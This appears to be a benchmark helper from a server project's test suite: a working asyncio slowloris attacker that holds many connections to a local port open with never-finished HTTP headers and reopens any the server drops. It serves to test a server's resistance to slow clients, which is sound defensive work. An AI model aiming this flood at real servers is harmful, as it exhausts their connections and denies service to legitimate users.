"""A slowloris attacker as its own process: `python -m tests.benchmarks.slowloris PORT N SECONDS [SOURCE]`.

N connections from SOURCE (default 127.0.0.2: another host, as far as the server can tell)
each send a request head one header line a second and never finish it; a connection
the server closes is opened again at once. Prints how many connections it opened.
"""

from __future__ import annotations

import asyncio
import contextlib
import resource
import sys


async def _one(port: int, source: str, stop: asyncio.Event, opened: list[int]) -> None:
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(0.1)
            continue
        opened[0] += 1
        try:
            writer.write(b"GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\n")
            while not stop.is_set() and not reader.at_eof():
                writer.write(b"X-Slow: a\r\n")
                await writer.drain()
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1024), 1.0)  # notices a close within a second
        except OSError:
            pass
        finally:
            writer.close()


async def flood(port: int, n: int, seconds: float, source: str) -> int:
    stop = asyncio.Event()
    opened = [0]
    tasks = [asyncio.create_task(_one(port, source, stop, opened)) for _ in range(n)]
    await asyncio.sleep(seconds)  # the attack's duration
    stop.set()
    await asyncio.gather(*tasks, return_exceptions=True)
    return opened[0]


def main() -> int:
    port, n, seconds = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    source = sys.argv[4] if len(sys.argv) > 4 else "127.0.0.2"
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 2 * n + 100), hard))
    print(asyncio.run(flood(port, n, seconds, source)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
